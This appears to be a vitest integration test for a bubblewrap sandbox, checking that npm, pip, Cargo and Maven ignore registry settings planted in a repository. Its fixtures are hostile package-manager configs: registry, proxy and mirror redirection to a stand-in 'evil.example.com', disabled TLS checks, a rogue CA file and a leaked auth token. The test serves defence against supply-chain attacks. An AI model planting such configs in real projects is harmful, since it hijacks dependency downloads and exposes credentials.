import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createBubblewrapDriver, findToolchains } from '#adapters/sandboxes/bubblewrap'
import type { RegistryDoor, Sandbox } from '#ports'
import { makeRegistryGround, type RegistryGround } from '../support/registry-fixtures.ts'
import { execIn, makeSandboxGround } from '../support/sandbox-fixtures.ts'
import { servePages, tinyForCargo, tinyForMaven, tinyForNpm, tinyForPip } from '../support/tiny-packages.ts'

const EVIL = 'evil.example.com'
const ADDRESS = {
  npm: 'https://npm.example.org/',
  pip: 'https://pip.example.org/simple/',
  cargo: 'https://cargo.example.org/index/',
  maven: 'https://maven.example.org/maven2/',
} as const
const tools = new Set(findToolchains(process.env).map(({ name }) => name))

const POM = `<project><modelVersion>4.0.0</modelVersion><parent><groupId>tiny</groupId><artifactId>tiny</artifactId><version>1.0.0</version><relativePath/></parent>
<artifactId>x</artifactId><packaging>pom</packaging></project>`
const CRATE = '[package]\nname = "x"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\ntiny = "1"\n'
const PACKAGE = JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { tiny: '1.0.0' } })

/** Every file of a repository by which a package tool can be told where to fetch, whom to trust and what to say. */
const FILES = {
  'npm/package.json': PACKAGE,
  'npm/.npmrc': `registry=https://${EVIL}/
proxy=http://${EVIL}:3128
https-proxy=http://${EVIL}:3128
noproxy=npm.example.org
strict-ssl=false
cafile=/workspace/evil.pem
//npm.example.org/:_authToken=of-the-repository
`,
  'pip/requirements.txt': `--index-url https://me:of-the-repository@${EVIL}/simple\n--trusted-host ${EVIL}\ntiny==1.0.0\n`,
  'pip/pip.conf': `[global]\nindex-url = https://${EVIL}/simple\nproxy = http://${EVIL}:3128\n`,
  'pip/plain.txt': 'tiny==1.0.0\n',
  'cargo/Cargo.toml': CRATE,
  'cargo/src/main.rs': 'fn main() {}\n',
  'cargo/.cargo/config.toml': `[source.crates-io]\nreplace-with = "evil"\n[source.evil]\nregistry = "sparse+https://${EVIL}/index/"
[http]\nproxy = "${EVIL}:3128"\ncainfo = "/workspace/evil.pem"\n[net]\ngit-fetch-with-cli = true\n`,
  'plain-cargo/Cargo.toml': CRATE,
  'plain-cargo/src/main.rs': 'fn main() {}\n',
  'maven/pom.xml': POM,
  'maven/.mvn/maven.config': '-s\n.mvn/evil.xml\n',
  'maven/.mvn/evil.xml': `<settings><mirrors><mirror><id>evil</id><mirrorOf>*</mirrorOf><url>https://${EVIL}/maven2/</url></mirror></mirrors></settings>`,
  'plain-maven/pom.xml': POM,
} as const

/** The user's own settings of Cargo and Maven. */
const USER = {
  '.cargo/config.toml': `[source.crates-io]\nreplace-with = "own"\n[source.own]\nregistry = "sparse+${ADDRESS.cargo}"\n`,
  '.m2/settings.xml': `<settings><mirrors><mirror><id>own</id><mirrorOf>*</mirrorOf><url>${ADDRESS.maven}</url></mirror></mirrors></settings>`,
} as const

const ground = makeSandboxGround(FILES)
const driver = createBubblewrapDriver({ home: ground.home })
const { available } = await driver.probe()
afterAll(() => ground.remove())

describe.skipIf(!available)(
  'NET-15 on bubblewrap: a repository that says where packages come from (skipped without bubblewrap)',
  () => {
    let registry: RegistryGround
    let door: RegistryDoor
    let sandbox: Sandbox
    beforeAll(async () => {
      const user = join(ground.root, 'user')
      for (const [path, text] of Object.entries(USER)) {
        mkdirSync(join(user, path, '..'), { recursive: true })
        writeFileSync(join(user, path), text)
      }
      const pages = new Map([
        ...tinyForNpm(ADDRESS.npm),
        ...tinyForCargo(ADDRESS.cargo),
        ...tinyForMaven(ADDRESS.maven),
        ...(tools.has('pip') ? tinyForPip(ADDRESS.pip) : []),
      ])
      registry = await makeRegistryGround({
        listener: servePages(pages),
        environment: {
          HOME: user,
          PATH: process.env['PATH'] ?? '',
          npm_config_registry: ADDRESS.npm,
          PIP_INDEX_URL: ADDRESS.pip,
        },
      })
      door = await registry.open({ hosts: Object.values(ADDRESS).map((address) => new URL(address).hostname) })
      const writable = { kind: 'setup_layer', path: join(ground.root, 'layer') } as const
      sandbox = await driver.open(ground.spec({ purpose: 'setup', writable, read_only: door.files }))
      await execIn(sandbox, [
        'sh',
        '-c',
        'mkdir -p ~/.m2 && cp /opt/gander/registry/maven-settings.xml ~/.m2/settings.xml',
      ])
    }, 60_000)
    afterAll(async () => {
      await sandbox.close()
      await registry.remove()
      rmSync(join(ground.root, 'layer'), { recursive: true, force: true })
    })

    /** What a tool does in a folder of the repository, and what it was refused meanwhile. */
    const fetching = async (cwd: string, argv: readonly string[]) => {
      const known = registry.seen.length
      const counted = () => new Map(door.report().refused.map(({ host, rule, count }) => [`${rule} ${host}`, count]))
      const before = counted()
      const network = { kind: 'doors', doors: [door.door] } as const
      const done = await execIn(sandbox, argv, { cwd, network, env: door.environment, timeout_ms: 100_000 })
      return {
        status: done.exit_code,
        said: `${done.stdout}\n${done.stderr}`,
        fetched: registry.seen.slice(known),
        refused: [...counted()].filter(([what, count]) => count > (before.get(what) ?? 0)).map(([what]) => what),
      }
    }

    it.skipIf(!tools.has('npm'))(
      'npm fetches from the registry of the machine, by the door, without what .npmrc says',
      async () => {
        const { status, said, fetched, refused } = await fetching('npm', ['npm', 'install', '--ignore-scripts'])
        expect(status, said).toBe(0)
        expect(refused).toEqual([])
        expect(fetched.map(({ line }) => line)).toEqual(['GET /tiny', 'GET /tiny/-/tiny-1.0.0.tgz'])
        expect(JSON.stringify(fetched)).not.toContain('of-the-repository')
      },
    )

    it.skipIf(!tools.has('pip'))(
      'pip is refused the index of a requirements file, and pip.conf is not read',
      async () => {
        const pip = (file: string) => [
          'python3',
          '-m',
          'pip',
          'download',
          '--no-deps',
          '--retries=0',
          '-d',
          'wheels',
          '-r',
          file,
        ]
        const hostile = await fetching('pip', pip('requirements.txt'))
        expect(hostile.status).not.toBe(0)
        expect(hostile).toMatchObject({ refused: [`egress.host ${EVIL}`], fetched: [] })
        const plain = await fetching('pip', pip('plain.txt'))
        expect(plain.status, plain.said).toBe(0)
        expect(plain.refused).toEqual([])
      },
    )

    it.skipIf(!tools.has('cargo'))(
      'Cargo is refused the source of .cargo/config.toml, and asks by the door alone',
      async () => {
        const hostile = await fetching('cargo', ['cargo', 'fetch', '--config', 'net.retry=0'])
        expect(hostile.status).not.toBe(0)
        expect(hostile, hostile.said).toMatchObject({ refused: [`egress.host ${EVIL}`], fetched: [] })
        const plain = await fetching('plain-cargo', ['cargo', 'fetch'])
        expect(plain.status, plain.said).toBe(0)
        expect(plain.refused).toEqual([])
      },
    )

    it.skipIf(!tools.has('mvn'))(
      'Maven is refused the settings of .mvn, and fetches from the mirror of the machine',
      async () => {
        const hostile = await fetching('maven', ['mvn', '-B', '-q', 'validate'])
        expect(hostile.status).not.toBe(0)
        expect(hostile, hostile.said).toMatchObject({ refused: [`egress.host ${EVIL}`], fetched: [] })
        const plain = await fetching('plain-maven', ['mvn', '-B', '-q', 'validate'])
        expect(plain.status, plain.said).toBe(0)
        expect(plain.refused).toEqual([])
      },
    )
  },
)
